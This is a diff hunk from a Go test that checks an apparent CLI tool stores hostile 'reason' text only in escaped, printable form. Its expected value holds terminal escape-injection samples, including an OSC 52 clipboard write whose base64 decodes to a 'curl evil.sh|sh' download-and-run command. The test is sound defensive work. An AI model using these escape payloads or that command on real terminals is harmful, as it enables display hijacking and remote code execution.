@@ -168,7 +168,7 @@ func TestHostileTextRefusedOnTheWayIn(t *testing.T) {
 	}
 	res, _ := e.expect(exit.OK, "alice", "retries", "off", "checkout->payments", "--ttl", "5m", "--reason", "amplification 4x\nsince 14:02\r\n", "--yes", "-o", "json")
 	// release and extend keep a hostile reason only as printable text.
-	e.expect(exit.OK, "alice", "action", "extend", res["action_id"].(string), "--ttl", "6m", "--reason", "still\x1b[2J")
+	e.expect(exit.OK, "alice", "action", "extend", res["action_id"].(string), "--ttl", "6m", "--reason", "still\x1b[2J", "--yes")
 	es := e.journalEntries()
 	if len(es) != 3 || es[0].Reason != `amplification\u001b[2J\u001b[H\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u009b8m\u202eok` ||
 		es[1].Reason != "amplification 4x since 14:02" || es[2].Reason != `still\u001b[2J` {
